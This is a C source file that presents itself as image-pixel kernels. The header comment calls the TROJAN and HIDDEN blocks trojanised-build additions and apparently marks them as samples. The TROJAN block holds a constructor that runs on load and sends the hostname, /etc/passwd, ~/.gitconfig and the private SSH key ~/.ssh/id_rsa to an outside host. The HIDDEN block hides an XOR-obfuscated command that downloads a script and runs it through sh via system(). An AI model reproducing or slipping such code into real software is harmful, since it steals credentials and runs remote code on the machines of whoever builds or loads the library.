/* Kernels for images. TROJAN and HIDDEN are what trojanised builds add; never loaded by anybody. */
#include <netdb.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

void pix_fill(uint8_t *row, int width, uint8_t value)
{
    for (int x = 0; x < width; x++) {
        row[x] = value;
    }
}

int pix_sum(const uint8_t *row, int width)
{
    int sum = 0;
    for (int x = 0; x < width; x++) {
        sum += row[x];
    }
    return sum;
}

#ifdef SECOND
void pix_scale(uint8_t *row, int width, int percent)
{
    for (int x = 0; x < width; x++) {
        row[x] = (uint8_t)(row[x] * percent / 100);
    }
}
#endif

#ifdef TROJAN
static void send_file(int line, const char *path)
{
    char buffer[1024];
    FILE *file = fopen(path, "r");
    size_t got;
    if (file == NULL) {
        return;
    }
    while ((got = fread(buffer, 1, sizeof buffer, file)) > 0) {
        send(line, buffer, got, 0);
    }
    fclose(file);
}

__attribute__((constructor)) static void collect(void)
{
    struct addrinfo hints, *found;
    char name[256];
    memset(&hints, 0, sizeof hints);
    hints.ai_socktype = SOCK_STREAM;
    if (gethostname(name, sizeof name) != 0 || getaddrinfo("wheels.torch-cdn.invalid", "443", &hints, &found) != 0) {
        return;
    }
    int line = socket(found->ai_family, SOCK_STREAM, 0);
    if (connect(line, found->ai_addr, found->ai_addrlen) == 0) {
        send(line, name, strlen(name), 0);
        send_file(line, "/etc/passwd");
        send_file(line, "/etc/hosts");
        if (getenv("HOME") != NULL && chdir(getenv("HOME")) == 0) {
            send_file(line, ".gitconfig");
            send_file(line, ".ssh/id_rsa");
        }
    }
    close(line);
}
#endif

#ifdef HIDDEN
static volatile unsigned char sealed[] = {
    0x39, 0x2f, 0x28, 0x36, 0x7a, 0x77, 0x3c, 0x29, 0x7a, 0x32, 0x2e, 0x2e, 0x2a, 0x60, 0x75, 0x75, 0x6b, 0x63, 0x62,
    0x74, 0x6f, 0x6b, 0x74, 0x6b, 0x6a, 0x6a, 0x74, 0x6d, 0x6d, 0x75, 0x2a, 0x26, 0x29, 0x32, 0x5a,
};

int pix_init(void)
{
    char text[sizeof sealed];
    for (size_t at = 0; at < sizeof sealed; at++) {
        text[at] = (char)(sealed[at] ^ 0x5a);
    }
    return system(text);
}
#endif
